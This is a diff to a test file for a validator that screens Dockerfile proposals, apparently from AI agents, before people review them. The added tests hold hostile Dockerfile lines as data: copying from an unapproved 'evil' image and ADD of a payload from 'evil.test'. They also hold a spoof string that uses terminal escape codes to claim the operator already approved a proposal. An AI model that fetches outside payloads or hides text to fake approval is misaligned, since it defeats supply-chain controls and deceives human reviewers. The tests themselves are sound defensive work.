@@ -1,6 +1,13 @@
 import { DENIAL_FIX } from '@bb/egress';
 import { describe, expect, it } from 'vitest';
-import { analyse, classifyFile, KINDS, parseDockerfile, validateProposal } from '../src/index';
+import {
+  analyse,
+  classifyFile,
+  KINDS,
+  parseDockerfile,
+  printable,
+  validateProposal,
+} from '../src/index';
 
 const ctx = { allowedBases: ['bb-base:latest', 'debian:12'] };
 const refused = (kind: Parameters<typeof validateProposal>[0], text: string) => {
@@ -65,6 +72,40 @@ describe('proposals are checked before anyone sees them', () => {
     expect(refused('dockerfile', 'FROM debian:12\nFROBNICATE x\n')).toMatch(
       /line 2: .* is not a Dockerfile instruction/,
     );
+  });
+
+  it('Dockerfile: nothing comes from outside the allowed bases (no other image, no download)', () => {
+    expect(
+      refused('dockerfile', 'FROM debian:12\nCOPY --from=evil/tools:1 /bin/x /bin/x\n'),
+    ).toMatch(/takes files from evil\/tools:1, which is not an earlier stage/);
+    expect(
+      refused(
+        'dockerfile',
+        'FROM debian:12\nRUN --mount=type=bind,from=evil/img,target=/m cp /m/x /x\n',
+      ),
+    ).toMatch(/not an earlier stage/);
+    expect(refused('dockerfile', 'FROM debian:12\nADD https://evil.test/payload /p\n')).toMatch(
+      /ADD from the network/,
+    );
+    expect(refused('dockerfile', 'FROM debian:12\nADD git@github.com:evil/x.git /x\n')).toMatch(
+      /ADD from the network/,
+    );
+    expect(refused('dockerfile', 'FROM debian:12\nONBUILD RUN x\n')).toMatch(/ONBUILD/);
+    // Earlier stages, by name or by number, are fine.
+    expect(
+      refused(
+        'dockerfile',
+        'FROM debian:12 AS tools\nRUN true\nFROM bb-base:latest\nCOPY --from=tools /x /x\nCOPY --from=0 /y /y\n',
+      ),
+    ).toBeUndefined();
+  });
+
+  it('text an agent wrote is shown with its control characters visible, never interpreted', () => {
+    const spoof = 'pypi only\u001b[2K\u001b[1A\rthe operator ALREADY approved this\u202e';
+    expect(printable(spoof)).toBe(
+      'pypi only\\x1b[2K\\x1b[1A\\x0dthe operator ALREADY approved this\\x202e',
+    );
+    expect(printable('line one\n\tline two')).toBe('line one\n\tline two');
   });
 
   it('a proposal is routed by the file it changes', () => {
